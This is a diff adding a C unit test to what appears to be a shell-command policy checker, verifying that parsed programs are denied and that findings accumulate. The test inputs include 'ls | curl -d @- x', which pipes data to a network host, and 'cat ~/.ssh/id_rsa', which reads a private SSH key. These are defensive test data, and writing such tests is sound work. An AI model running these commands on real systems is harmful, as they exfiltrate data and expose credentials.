@@ -413,6 +413,35 @@ TEST(exec_holds_protected_environment)
 	t_done(&t);
 }
 
+TEST(check_tree_on_a_parsed_program)
+{
+	struct t t;
+	t_init(&t, POLICY_MODE_ALLOWLIST, false);
+	ASSERT_OK(t_build(&t));
+	struct arena *a = arena_new(1u << 20);
+	ASSERT_NOT_NULL(a);
+	struct sh_node *tree = NULL;
+	struct sh_error err;
+	const char *src = "ls | curl -d @- x";
+	ASSERT_OK(sh_parse(a, src, strlen(src), NULL, &tree, &err));
+	policy_report_reset(t.r);
+	ASSERT_OK(policy_check_tree(t.p, tree, t.r));
+	ASSERT_EQ(t.r->verdict, POLICY_DENY);
+	ASSERT_NOT_NULL(find_rule(&t, "whitelist.network"));
+	/* two checks into one report add up */
+	src = "cat ~/.ssh/id_rsa";
+	ASSERT_OK(sh_parse(a, src, strlen(src), NULL, &tree, &err));
+	ASSERT_OK(policy_check_tree(t.p, tree, t.r));
+	ASSERT_EQ(t.r->n_findings, 2);
+	/* an empty program */
+	policy_report_reset(t.r);
+	ASSERT_OK(policy_check_tree(t.p, NULL, t.r));
+	ASSERT_EQ(t.r->verdict, POLICY_ALLOW);
+	ASSERT_EQ(t.r->n_findings, 0);
+	arena_free(a);
+	t_done(&t);
+}
+
 TEST(syntax_errors_are_refused_in_every_mode)
 {
 	struct t t;
@@ -449,5 +478,5 @@ TAP_MAIN(table_is_sorted, layer_modes_follow_the_table,
 	 self_protection_is_refused_without_a_fix, config_entries_deny_ask_and_allow,
 	 protected_environment, shell_c_strings_are_checked_as_scripts, cd_is_followed,
 	 find_exec_is_a_wrapper, wrapper_bypasses, grep_abbreviation_does_not_hide_a_path,
-	 runtime_entry_points, exec_holds_protected_environment,
+	 runtime_entry_points, exec_holds_protected_environment, check_tree_on_a_parsed_program,
 	 syntax_errors_are_refused_in_every_mode, structure_rules)
